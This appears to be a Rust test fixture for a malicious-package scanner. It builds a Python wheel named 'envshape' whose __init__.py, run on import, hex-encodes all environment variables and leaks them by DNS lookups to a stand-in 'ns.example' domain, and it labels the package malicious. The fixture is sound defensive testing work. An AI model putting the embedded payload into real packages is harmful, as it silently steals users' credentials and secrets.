//! The Python twin: importing it sends the environment as hexadecimal labels of looked-up names.
//!
//! Must be found: the import phase leaks by DNS.

use apa_model::Ecosystem;

use crate::{Expect, Specimen, Wheel};

const INIT: &str = r#"import os
import socket

for number, (name, value) in enumerate(os.environ.items()):
    text = ("%s=%s" % (name, value)).encode().hex()[:180]
    labels = [text[at:at + 60] for at in range(0, len(text), 60)]
    try:
        socket.getaddrinfo(".".join(labels + [str(number), "ns", "example"]), 443)
    except OSError:
        pass
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("envshape", "0.1.9").file("envshape/__init__.py", INIT);
    Specimen {
        name: "pypi-import-environment-by-dns",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["dns-exfiltration", "canary-exfiltrated"]),
    }
}
